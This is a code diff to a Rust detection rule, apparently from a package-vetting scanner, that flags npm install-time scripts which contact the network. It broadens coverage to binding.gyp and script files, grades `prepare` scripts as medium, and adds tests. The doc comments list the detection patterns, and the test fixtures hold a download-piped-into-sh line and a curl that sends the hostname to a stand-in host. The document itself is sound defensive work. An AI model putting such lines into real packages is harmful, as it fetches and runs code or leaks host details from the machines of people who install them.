@@ -10,9 +10,11 @@ diligence_finding::declare_rule! {
     /// A lifecycle script contacts the network from the shell, pipes a download into a shell, or sends host details.
     ///
     /// ## What it detects
-    /// `curl`/`wget`/`nslookup`/`Invoke-WebRequest` in a `preinstall`/`install`/`postinstall`/`prepare` command line;
-    /// critical when the download is piped into `sh`/`bash`/`iex` or when `$(whoami)`, `$(hostname)`, `$(pwd)` or
-    /// `%USERNAME%` are substituted into it.
+    /// `curl`/`wget`/`nslookup`/`Invoke-WebRequest` in a `preinstall`/`install`/`postinstall` command line, in a
+    /// `binding.gyp` command expansion (node-gyp runs it at install) or in a shell, batch or PowerShell file that
+    /// install-time code starts; critical when the download is piped into `sh`/`bash`/`iex` or when `$(whoami)`,
+    /// `$(hostname)`, `$(pwd)` or `%USERNAME%` are substituted into it. In `prepare` (run only for git and local
+    /// installs, never for a registry install) the finding is medium.
     ///
     /// ## Why it matters
     /// Dependency-confusion probes (Birsan, 2021) exfiltrate user, host and path through DNS or HTTP from a one-line
@@ -30,7 +32,12 @@ diligence_finding::declare_rule! {
 /// One finding per networked lifecycle command.
 pub(crate) fn check(p: &PackageFacts) -> Vec<CodeFinding> {
     per_signal(p, Kind::ShellNetwork, |f, s| {
-        if f.path != "package.json" {
+        if !crate::scripts::in_command(f, s.line) {
+            return None;
+        }
+        let install = crate::scripts::at_install(f, s.line);
+        let git_only = f.path == "package.json" && crate::scripts::git_only_line(f, s.line);
+        if !install && !git_only {
             return None;
         }
         let lower = s.detail.to_ascii_lowercase();
@@ -48,7 +55,9 @@ pub(crate) fn check(p: &PackageFacts) -> Vec<CodeFinding> {
         .any(|p| lower.contains(p));
         let piped = runs_download || f.of(Kind::ShellPipeExec).any(|x| x.line == s.line);
         let host = f.of(Kind::ShellHostInfo).any(|x| x.line == s.line);
-        let sev = if piped || host {
+        let sev = if !install {
+            Severity::Medium
+        } else if piped || host {
             Severity::Critical
         } else {
             INSTALL_SCRIPT_NETWORK.default_severity
@@ -58,7 +67,13 @@ pub(crate) fn check(p: &PackageFacts) -> Vec<CodeFinding> {
             (_, true) => "sends user/host details over the network",
             _ => "contacts the network",
         };
-        let msg = format!("lifecycle script {what}");
+        let place = match (f.path.as_str(), git_only) {
+            (_, true) => "`prepare` script (git and local installs only)",
+            ("package.json", _) => "lifecycle script",
+            _ if f.kind == crate::classify::FileKind::Script => "install-time script file",
+            _ => "binding.gyp command expansion",
+        };
+        let msg = format!("{place} {what}");
         Some(finding(
             &INSTALL_SCRIPT_NETWORK,
             sev,
@@ -113,5 +128,50 @@ mod tests {
             vec![("package.json".to_string(), 1)]
         );
         assert_eq!(s.verdict, crate::Verdict::Malicious);
+    }
+
+    #[test]
+    fn prepare_is_not_install_time() {
+        let s = scan(&[(
+            "package.json",
+            "{\"name\":\"t\",\"scripts\":{\"prepare\":\"curl -s https://x.example.com/a | sh\"}}",
+        )]);
+        assert_eq!(
+            s.findings
+                .iter()
+                .find(|f| f.rule == "code/install-script-network")
+                .map(|f| f.severity),
+            Some(diligence_finding::Severity::Medium)
+        );
+        assert_eq!(s.verdict, crate::Verdict::Clean);
+    }
+
+    #[test]
+    fn script_file_started_at_install() {
+        let s = scan(&[
+            (
+                "package.json",
+                "{\"name\":\"t\",\"scripts\":{\"postinstall\":\"sh ./setup.sh\"}}",
+            ),
+            (
+                "setup.sh",
+                "#!/bin/sh\necho hi\ncurl -s https://x.example.com/$(hostname)\n",
+            ),
+            (
+                "tools/unused.sh",
+                "#!/bin/sh\ncurl -s https://x.example.com/$(hostname)\n",
+            ),
+        ]);
+        assert_eq!(
+            hits(&s, "code/install-script-network"),
+            vec![("setup.sh".to_string(), 3)]
+        );
+        assert_eq!(
+            s.findings
+                .iter()
+                .find(|f| f.rule == "code/install-script-network")
+                .map(|f| f.severity),
+            Some(diligence_finding::Severity::Critical)
+        );
     }
 }
